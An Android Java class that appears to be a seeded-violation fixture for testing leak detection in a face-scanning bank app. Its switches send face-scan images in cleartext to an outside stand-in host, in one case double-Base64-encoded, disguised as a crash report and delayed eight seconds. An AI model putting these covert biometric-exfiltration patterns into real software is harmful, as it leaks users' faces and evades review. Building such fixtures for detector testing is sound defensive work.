package org.example.facebank;

import android.util.Base64;
import java.nio.charset.StandardCharsets;

/** Where a scan goes besides the bank's own service. Only seeded violations use it. */
final class FaceCopies {
  private static final int LATE_SECONDS = 8;
  private static final int ONE_LINE = Base64.NO_WRAP;
  private final Variant variant;
  private final OtherHosts hosts;

  FaceCopies(Variant variant, OtherHosts hosts) {
    this.variant = variant;
    this.hosts = hosts;
  }

  void taken(byte[] jpeg) {
    cleartext(jpeg);
  }

  private boolean violates(Switch name, String value) {
    return variant.is(name, value);
  }

  private void cleartext(byte[] jpeg) {
    if (violates(Switch.WIRE_CLEARTEXT, "picture")) {
      hosts.post(OtherHosts.CLEARTEXT + "/collect", "image/jpeg", small(jpeg));
    } else if (violates(Switch.WIRE_CLEARTEXT, "packed-and-late")) {
      String report = "{\"crash\":null,\"trail\":\"" + twice(Pictures.packed(small(jpeg))) + "\"}";
      hosts.postLater(
          LATE_SECONDS, OtherHosts.CLEARTEXT + "/report", "application/json", utf8(report));
    }
  }

  private static byte[] small(byte[] jpeg) {
    return Pictures.scaled(jpeg, 240, 180, 70);
  }

  private static String twice(byte[] bytes) {
    return text(utf8(text(bytes)));
  }

  private static String text(byte[] bytes) {
    return Base64.encodeToString(bytes, ONE_LINE);
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
